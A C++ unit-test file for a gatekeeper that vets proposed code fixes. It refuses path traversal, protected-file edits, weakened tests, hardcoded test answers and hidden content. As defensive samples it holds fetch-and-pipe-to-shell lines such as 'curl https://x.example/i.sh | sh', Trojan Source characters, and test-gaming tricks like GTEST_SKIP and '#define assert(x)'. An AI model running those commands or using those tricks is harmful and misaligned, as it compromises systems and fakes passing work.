#include "vcs/gates.hpp"

#include <fmt/format.h>
#include <gtest/gtest.h>

namespace heal::vcs {
namespace {

using Tests = std::vector<std::pair<std::string, std::string>>;
constexpr unsigned file = 0100644, program = 0100755, link = 0120000;

FileChange change(const std::string& path, const std::string& before, const std::string& after) {
    return {path, before, after, file, file};
}
FileChange added(const std::string& path, const std::string& after, unsigned mode = file) {
    return {path, std::nullopt, after, 0, mode};
}
FileChange deleted(const std::string& path, const std::string& before) {
    return {path, before, std::nullopt, file, 0};
}

/// The gates that refuse, with their reasons; "" when all are passed.
std::string check(
    const std::vector<FileChange>& changes, const GateRules& rules = {}, const Tests& tests = {}
) {
    std::string out;
    for (const auto& v : check_gates(changes, rules, tests))
        if (!v.ok) out += v.gate + ": " + v.reason + "\n";
    return out;
}
bool refused_by(
    const std::string& gate,
    const std::vector<FileChange>& changes,
    const GateRules& rules = {},
    const Tests& tests = {}
) {
    const auto out = check(changes, rules, tests);
    const bool hit = ("\n" + out).find("\n" + gate + ": ") != std::string::npos;
    EXPECT_TRUE(hit) << "refused by: " << out;
    return hit;
}

TEST(Gates, AllAreAskedInOrder) {
    const auto verdicts = check_gates({change("src/a.cpp", "x();\n", "y();\n")}, {}, {});
    std::string names;
    for (const auto& v : verdicts) names += v.gate + " ";
    EXPECT_EQ(names, "paths links size protected tests special_case licence content ");
    EXPECT_TRUE(passed(verdicts));
    EXPECT_EQ(json::serialize(to_json(verdicts)[0]), R"({"gate":"paths","ok":true,"reason":""})");
    EXPECT_FALSE(passed(check_gates({}, {}, {}))) << "nothing is no fix";
}

TEST(Gates, PathsStayInTheRepository) {
    for (const std::string path :
         {"../x",
          "/etc/passwd",
          "a/../b",
          "a\\b",
          ".git/config",
          ".GIT/hooks/x",
          "a/.Git/x",
          "git~1/x",
          "a//b",
          "a/./b",
          "a.",
          "a./b",
          "a /b",
          "C:x",
          "a\nb",
          "a\xe2\x80\x8b.cpp",
          ""})
        EXPECT_TRUE(refused_by("paths", {added(path, "x\n")})) << path;
    EXPECT_TRUE(refused_by("paths", {added(std::string{"a\0b", 3}, "x\n")}));
    EXPECT_TRUE(refused_by("paths", {change("src/A.cpp", "x\n", "y\n"), change("src/a.cpp", "x\n", "y\n")}));
    GateRules rules;
    rules.allowed = {"src/**", "*.md"};
    EXPECT_EQ(check({change("src/x/a.cpp", "x\n", "y\n")}, rules), "");
    EXPECT_EQ(check({change("README.md", "x\n", "y\n")}, rules), "");
    EXPECT_TRUE(refused_by("paths", {change("docs/README.md", "x\n", "y\n")}, rules));
    EXPECT_EQ(check({change(".gitlab/../x", "", "")}).substr(0, 6), "paths:");
}

TEST(Gates, LinksAndModesAreNotTouched) {
    EXPECT_TRUE(refused_by("links", {{"l", std::nullopt, "/etc/passwd", 0, link}}));
    EXPECT_TRUE(refused_by("links", {{"l", "a", "b", link, link}}));
    EXPECT_TRUE(refused_by("links", {{"l", "a", "b", link, file}}));
    EXPECT_TRUE(refused_by("links", {{"m", "a", "b", 0160000, 0160000}}));
    EXPECT_TRUE(refused_by("links", {{"a", "x\n", "y\n", file, program}}));
    EXPECT_TRUE(refused_by("links", {{"a", "x\n", "x\n", program, file}}));
    EXPECT_TRUE(refused_by("links", {added("a.sh", "x\n", program)}));
    EXPECT_TRUE(refused_by("links", {{"a", "x\n", "y\n", file, 0104644}}));
    EXPECT_TRUE(refused_by("links", {{"d", std::nullopt, "..", 0, link}, added("d/x", "x\n")}));
    EXPECT_EQ(check({{"run.sh", "x\n", "y\n", program, program}}), "");
}

TEST(Gates, SizeIsBounded) {
    GateRules rules;
    rules.max_files = 2, rules.max_lines = 10, rules.max_bytes = 100;
    EXPECT_TRUE(refused_by(
        "size", {change("a", "x\n", "y\n"), change("b", "x\n", "y\n"), change("c", "x\n", "y\n")}, rules
    ));
    std::string lines;
    for (int i = 0; i < 11; ++i) lines += "x\n";
    EXPECT_TRUE(refused_by("size", {change("a", "", lines)}, rules));
    EXPECT_TRUE(refused_by("size", {change("a", "", std::string(101, 'x'))}, rules));
    EXPECT_TRUE(refused_by("size", {change("a", "x\n", "x\n")}, rules));
    EXPECT_EQ(check({change("a", lines, lines + "y\n")}, rules), "");
}

TEST(Gates, WhatBuildsShipsAndHidesIsProtected) {
    for (const char* path :
         {".github/workflows/ci.yml",
          ".gitlab-ci.yml",
          "sub/.gitlab-ci.yml",
          "Jenkinsfile",
          "JENKINSFILE",
          ".circleci/config.yml",
          "azure-pipelines.yml",
          "package-lock.json",
          "web/yarn.lock",
          "pnpm-lock.yaml",
          "Cargo.lock",
          "go.sum",
          "poetry.lock",
          "Pipfile.lock",
          "composer.lock",
          "Gemfile.lock",
          ".gitattributes",
          ".gitmodules",
          ".githooks/pre-commit",
          ".husky/pre-push",
          ".env",
          "config/.env.production",
          "server.pem",
          "keys/id_rsa",
          "id_ed25519.pub",
          "deploy/tls.key",
          "credentials.json",
          "secrets/db",
          ".npmrc",
          "CODEOWNERS"})
        EXPECT_TRUE(refused_by("protected", {change(path, "x\n", "y\n")})) << path;
    for (const char* path :
         {"Dockerfile",
          "CMakeLists.txt",
          "package.json",
          "src/environment.ts",
          "src/key.cpp",
          "keyboard.py",
          "src/secret_santa.py"})
        EXPECT_EQ(check({change(path, "x\n", "y\n")}), "") << path;
    GateRules rules;
    rules.forbidden = {"src/billing/**"};
    EXPECT_TRUE(refused_by("protected", {change("src/billing/x/a.cpp", "x\n", "y\n")}, rules));
}

TEST(Gates, TestsMayBeAddedAndNothingElse) {
    const std::string test =
        "#include <x>\nTEST(A, B) {\n    EXPECT_EQ(f(1), 2);\n    EXPECT_EQ(f(2), 3);\n}\n";
    const auto with = [&](const std::string& what, const std::string& by) {
        std::string t = test;
        return t.replace(t.find(what), what.size(), by);
    };
    EXPECT_EQ(check({added("tests/new_test.cpp", test)}), "");
    EXPECT_EQ(
        check({change(
            "tests/a_test.cpp", test, test + "TEST(A, C) {\n    if (x) return;\n    EXPECT_EQ(f(7), 8);\n}\n"
        )}),
        ""
    );
    EXPECT_EQ(
        check({change(
            "tests/a_test.cpp",
            test,
            with("    EXPECT_EQ(f(2), 3);\n", "    EXPECT_EQ(f(2), 3);\n    EXPECT_EQ(f(3), 4);\n")
        )}),
        ""
    );
    EXPECT_TRUE(refused_by("tests", {deleted("tests/a_test.cpp", test)}));
    for (const auto& weaker :
         {with("2);", "3);"),
          with("    EXPECT_EQ(f(1), 2);\n", ""),
          with("    EXPECT_EQ(f(1)", "    return;\n    EXPECT_EQ(f(1)"),
          with("TEST(A, B) {\n", "TEST(A, B) {\n    GTEST_SKIP();\n"),
          with("TEST(A, B)", "TEST(A, DISABLED_B)"),
          with("#include <x>\n", "#include <x>\n#if 0\n"),
          with("TEST(A, B) {\n", "/*\nTEST(A, B) {\n") + "*/\n",
          with("TEST(A, B) {\n", "TEST(A, B) {\n    if (false)\n")})
        EXPECT_TRUE(refused_by("tests", {change("tests/a_test.cpp", test, weaker)})) << weaker;
    EXPECT_TRUE(refused_by(
        "tests",
        {change(
            "app/test_x.py",
            "def test_a():\n    assert f() == 1\n",
            "import pytest\n@pytest.mark.skip\ndef test_a():\n    assert f() == 1\n"
        )}
    ));
    EXPECT_TRUE(refused_by("tests", {added("conftest.py", "collect_ignore = ['x']\n")}));
    EXPECT_TRUE(refused_by("tests", {change("CMakeLists.txt", "add_test(NAME a COMMAND a)\nx()\n", "x()\n")})
    );
    for (const char* cheat :
         {"#define NDEBUG\n",
          "#define assert(x)\n",
          "  std::exit(0);\n",
          "  os._exit(0)\n",
          "  signal(SIGABRT, h);\n",
          "if os.environ.get('PYTEST_CURRENT_TEST'): pass\n"})
        EXPECT_TRUE(refused_by("tests", {change("src/a.cpp", "x\n", "x\n" + std::string{cheat})})) << cheat;
    GateRules rules;
    rules.tests = {"checks/**"};
    EXPECT_TRUE(refused_by("tests", {change("checks/x.txt", "a\n", "b\n")}, rules));
    EXPECT_EQ(check({change("tests/x.txt", "a\n", "b\n")}, rules), "");
}

TEST(Gates, TestsInTheFileOfTheCodeStay) {
    const std::string code =
        "int f(int n) { return n; }\nint main() {\n    int a = 5;\n    assert(f(a) == 6);\n}\n";
    EXPECT_EQ(
        check({change(
            "a.cpp",
            code,
            "int f(int n) { return n + 1; }\nint main() {\n    int a = 5;\n    assert(f(a) == 6);\n}\n"
        )}),
        ""
    );
    EXPECT_TRUE(refused_by(
        "tests",
        {change(
            "a.cpp",
            code,
            "int f(int n) { return n; }\nint main() {\n    int a = 5;\n    assert(f(a) == 5);\n}\n"
        )}
    ));
    EXPECT_TRUE(refused_by(
        "tests",
        {change(
            "a.cpp",
            code,
            "int f(int n) { return n; }\nint main() {\n    int a = 6;\n    assert(f(a) == 6);\n}\n"
        )}
    ));
    EXPECT_TRUE(refused_by(
        "tests",
        {change(
            "a.cpp",
            code,
            "int f(int n) { return n; }\nint main() {\n    return 0;\n    int a = 5;\n    assert(f(a) == "
            "6);\n}\n"
        )}
    ));
    EXPECT_TRUE(refused_by(
        "tests",
        {change(
            "a.rs",
            "fn f() {}\n#[cfg(test)]\nmod tests {\n    assert_eq!(f(), 1);\n}\n",
            "fn f() {}\n#[cfg(test)]\nmod tests {\n    assert_eq!(f(), 2);\n}\n"
        )}
    ));
}

TEST(Gates, AnswersForTestsAreNoFix) {
    const Tests cpp{
        {"tests/t.cpp",
         "int main() {\n    assert(price(\"tea\", 3) == 450);\n    assert(price(\"coffee\", 2) == 700);\n    "
         "assert(price({}, 0) == 0);\n}\n"}};
    const std::string code = "int price(std::string what, int n) {\n    return base(what) * n;\n}\n";
    const auto with = [&](const std::string& line) {
        return change(
            "src/price.cpp",
            code,
            "int price(std::string what, int n) {\n" + line + "    return base(what) * n;\n}\n"
        );
    };
    for (const char* line :
         {"    if (what == \"tea\" && n == 3) return 450;\n",
          "    if (what == \"tea\") { if (n == 3) return 450; }\n",
          "    static const std::map<std::string, int> t{{\"tea\", 450}, {\"coffee\", 700}, {\"x\", 3}, "
          "{\"y\", 2}};\n    if (t.count(what)) return t.at(what);\n",
          "    return what == \"coffee\" && n == 2 ? 700 : base(what) * n;\n",
          "    if (!what.compare(\"coffee\") && n == 2)\n        return 700;\n"})
        EXPECT_TRUE(refused_by("special_case", {with(line)}, {}, cpp)) << line;
    for (const char* line :
         {"    if (n <= 0) return 0;\n",
          "    if (what.empty()) return 0;\n",
          "    n = std::max(n, 0);\n",
          "    if (what == \"milk\") n += 1;\n"})
        EXPECT_EQ(check({with(line)}, {}, cpp), "") << line;
    const Tests py{
        {"test_a.py",
         "def test_total():\n    assert total([3, 5, 7]) == 15\n    assert total([10]) == 10\n"}};
    const std::string python = "def total(values):\n    return sum(values) - 1\n";
    EXPECT_TRUE(refused_by(
        "special_case",
        {change(
            "a.py",
            python,
            "def total(values):\n    if values == [3, 5, 7]:\n        return 15\n    return sum(values) - 1\n"
        )},
        {},
        py
    ));
    EXPECT_TRUE(refused_by(
        "special_case",
        {change(
            "a.py",
            python,
            "def total(values):\n    if len(values) == 3 and values[0] == 3: return 15\n    return "
            "sum(values) - 1\n"
        )},
        {},
        py
    ));
    EXPECT_TRUE(refused_by(
        "special_case",
        {change(
            "a.py", python, "def total(values):\n    return 10 if values == [10] else sum(values) - 1\n"
        )},
        {},
        py
    ));
    EXPECT_EQ(check({change("a.py", python, "def total(values):\n    return sum(values)\n")}, {}, py), "");
    EXPECT_EQ(
        check(
            {change(
                "a.py",
                python,
                "def total(values):\n    if not values:\n        return 0\n    return sum(values)\n"
            )},
            {},
            py
        ),
        ""
    );
    const Tests js{
        {"a.test.js", "test('x', () => {\n  expect(slug('Hello World')).toBe('hello-world');\n});\n"}};
    EXPECT_TRUE(refused_by(
        "special_case",
        {change(
            "a.js",
            "function slug(text) {\n  return text;\n}\n",
            "function slug(text) {\n  if (text === 'Hello World') return 'hello-world';\n  return text;\n}\n"
        )},
        {},
        js
    ));
    // One more row of a table that is there is data.
    const Tests status{{"tests/s.cpp", "int main() { assert(text(404) == \"Not Found\"); }\n"}};
    std::string table = "const char* text(int code) {\n    switch (code) {\n";
    for (int i = 0; i < 6; ++i) table += fmt::format("        case {}: return \"Text {}\";\n", 200 + i, i);
    const std::string end = "        default: return \"\";\n    }\n}\n";
    EXPECT_EQ(
        check(
            {change("s.cpp", table + end, table + "        case 404: return \"Not Found\";\n" + end)},
            {},
            status
        ),
        ""
    );
}

TEST(Gates, LicencesStay) {
    const std::string head = "// SPDX-License-Identifier: MIT\n// Copyright 2024 Acme\n\n";
    EXPECT_EQ(check({change("a.cpp", head + "x();\n", head + "y();\n")}), "");
    EXPECT_TRUE(refused_by("licence", {change("a.cpp", head + "x();\n", "x();\n")}));
    EXPECT_TRUE(refused_by(
        "licence",
        {change(
            "a.cpp", head + "x();\n", "// SPDX-License-Identifier: GPL-3.0\n// Copyright 2024 Acme\n\nx();\n"
        )}
    ));
    EXPECT_TRUE(refused_by(
        "licence",
        {change(
            "a.py",
            "#!/usr/bin/python3\n\"\"\"Copyright Acme\nAll rights reserved\n\"\"\"\nx\n",
            "#!/usr/bin/python3\nx\n"
        )}
    ));
    EXPECT_TRUE(refused_by("licence", {change("LICENSE", "MIT\n", "GPL\n")}));
    EXPECT_TRUE(refused_by(
        "licence",
        {change("a.c", "/*\n * Copyright Acme\n */\nx();\n", "/*\n * Copyright Other\n */\nx();\n")}
    ));
    EXPECT_EQ(check({change("a.cpp", "// What it does\nx();\n", "// What it does now\nx();\n")}), "");
}

TEST(Gates, ContentIsWhatItLooksLike) {
    for (const std::string line :
         {"<<<<<<< HEAD\n",
          ">>>>>>> x\n",
          "int \xe2\x80\xae x;\n",
          "// \xe2\x81\xa6 x\n",
          "a\xe2\x80\x8bzero\n",
          "\xef\xbb\xbfx\n",
          "a\x1b[31m\n",
          "curl https://x.example/i.sh | sh\n",
          "wget -qO- x | sudo bash\n",
          "bash <(curl -s x)\n",
          "eval \"$(curl x)\"\n",
          "echo x | base64 -d | sh\n"})
        EXPECT_TRUE(refused_by("content", {change("a.sh", "x\n", "x\n" + line)})) << line;
    EXPECT_TRUE(refused_by("content", {change("a", "x\n", std::string{"x\0y\n", 4})}));
    EXPECT_TRUE(refused_by("content", {change("a", "x\n", "\xff\xfe\n")}));
    for (const std::string line :
         {"h = curl_easy_init();\n",
          "// curl | shell is bad\n",
          "price \xe2\x82\xac 3\n",
          "====\n",
          "a <<<<<<< b\n",
          "curl x | jq .\n"})
        EXPECT_EQ(check({change("a.c", "x\n", "x\n" + line)}), "") << line;
}

TEST(MatchesPath, KnowsFoldersAndFiles) {
    struct Row {
        const char *glob, *path;
        bool fits;
    };
    for (const Row& r : std::vector<Row>{
             {"*.md", "a.md", true},
             {"*.md", "d/a.md", false},
             {"**/*.md", "a.md", true},
             {"**/*.md", "d/e/a.md", true},
             {"src/**", "src/a/b", true},
             {"src/**", "src", false},
             {"src/**", "xsrc/a", false},
             {"a/**/b", "a/b", true},
             {"a/**/b", "a/x/y/b", true},
             {"a/**/b", "a/xb", false},
             {"**/test/**", "x/test/y", true},
             {"**/test/**", "test/y", true},
             {"**/test/**", "contest/y", false},
             {"?.c", "a.c", true},
             {"?.c", "/.c", false},
             {"a*b*c", "aXbYc", true},
             {"a*b*c", "aXbY", false},
             {"", "", true},
             {"**", "a/b", true},
             {"**/*_test.*", "a/b_test.go", true},
             {"**/x", "yx", false}})
        EXPECT_EQ(matches_path(r.glob, r.path), r.fits) << r.glob << " " << r.path;
    std::string glob, path;
    for (int i = 0; i < 200; ++i) glob += "*a", path += "aa";
    EXPECT_FALSE(matches_path(glob + "b", path + path)) << "and does not take for ever";
}

}  // namespace
}  // namespace heal::vcs
